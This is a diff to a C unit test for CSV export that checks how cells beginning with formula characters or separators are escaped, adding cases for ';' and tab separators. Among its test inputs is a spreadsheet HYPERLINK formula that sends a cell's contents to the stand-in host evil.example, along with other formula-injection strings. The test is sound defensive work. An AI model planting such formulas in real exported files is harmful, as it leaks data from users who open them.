@@ -37,11 +37,20 @@ test_exports__csv_formula(void)
 		{ "+Russia", "'+Russia" },
 		{ "-2+3", "'-2+3" },
 		{ "@SUM(1+1)", "'@SUM(1+1)" },
-		{ "\tTab", "'\tTab" },
+		{ "\tTab", "\"'\tTab\"" },
 		{ "\rCR", "\"'\rCR\"" },
 		{ "\nLF", "\"'\nLF\"" },
 		{ "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
 		  "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Click\"\")\"" },
+		/*
+		 * A separator other than ',' that a spreadsheet may split
+		 * at (';' in many locales, tab) is quoted too, or the cell
+		 * after it would start a formula.
+		 */
+		{ "Safe;=1+2", "\"Safe;=1+2\"" },
+		{ "Safe\t=1+2", "\"Safe\t=1+2\"" },
+		{ "=1+2\";=1+2", "\"'=1+2\"\";=1+2\"" },
+		{ "\tTab;", "\"'\tTab;\"" },
 		{ "Lab = 1", "Lab = 1" },
 		{ "a-b", "a-b" },
 		{ " =1", " =1" },
